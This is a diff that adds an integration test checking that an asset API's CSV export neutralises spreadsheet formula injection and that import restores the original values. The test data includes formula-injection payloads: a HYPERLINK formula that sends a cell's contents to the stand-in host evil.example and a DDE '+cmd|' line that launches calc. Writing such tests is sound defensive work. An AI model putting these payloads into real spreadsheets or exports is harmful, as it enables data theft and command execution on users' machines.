@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import { suite } from '../support/suite.js';
 import * as assert from 'uvu/assert';
 import type { JsonResponse, RunningApi } from '../support/api.js';
@@ -298,6 +299,39 @@ test('export → import carries assets into another tenant; each tenant exports 
   assert.is(foreignFilter.body.split('\r\n').filter((line) => line !== '').length, 1);
   const retired = await call<string>(api!.baseUrl, `/api/v1/assets/export?status=retired&categoryId=${source.id}`, { headers: as(a!) });
   assert.equal(retired.body.split('\r\n').filter((line) => line !== '').slice(1).map((line) => line.split(',')[0]), [`${prefix}-2`]);
+});
+
+test('cells a spreadsheet would run as formulas are exported behind a single quote, and import back as they were', async ({ api, a, b }) => {
+  const label = `Kiosks ${uniqueSuffix()}`;
+  const schema = { type: 'object', properties: { note: { type: 'string' }, floor: { type: 'number' } } };
+  const source = await namedCategory(api!, a!, label, schema);
+  const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', '+cmd|\' /C calc\'!A0', '-1+1', '@SUM(A1:A9)', '\tx', '\rx'];
+  const prefix = `FX-${uniqueSuffix()}`;
+  const names = ['=HYPERLINK("http://evil.example","open")', '+cmd', '-1+1', '@SUM(1+1)', 'Tab kiosk', 'Return kiosk'];
+  for (const [index, note] of formulas.entries()) {
+    await createAsset(api!.baseUrl, a!.sessions.admin.accessToken, source.id, { tag: `${prefix}-${index}`, name: names[index], attributes: { note, floor: -index - 1 } });
+  }
+
+  const exported = await call<string>(api!.baseUrl, `/api/v1/assets/export?categoryId=${source.id}`, { headers: as(a!) });
+  assert.is(exported.status, 200);
+  const [header, ...rows]: string[][] = parse(exported.body);
+  const column = (name: string) => header!.indexOf(name);
+  const byTag = new Map(rows.map((row) => [row[column('tag')]!, row]));
+  for (const [index, note] of formulas.entries()) {
+    const row = byTag.get(`${prefix}-${index}`)!;
+    assert.is(row[column('attr.note')], `'${note}`, `note ${JSON.stringify(note)}`);
+    assert.is(row[column('attr.floor')], String(-index - 1), 'a number stays a number, unguarded');
+    const name = names[index]!;
+    assert.is(row[column('name')], /^[=+\-@]/.test(name) ? `'${name}` : name);
+  }
+
+  await namedCategory(api!, b!, label, schema);
+  const carried = await importCsv(api!, b!, exported.body);
+  assert.equal({ status: carried.status, imported: carried.body.imported, failed: carried.body.failed }, { status: 200, imported: formulas.length, failed: 0 });
+  for (const [index, note] of formulas.entries()) {
+    const [copy] = await assetsTagged(api!, b!, `${prefix}-${index}`);
+    assert.equal({ name: copy!.name, attributes: copy!.attributes }, { name: names[index], attributes: { note, floor: -index - 1 } });
+  }
 });
 
 test('requesters may not export; a bad filter is 400', async ({ api, a }) => {
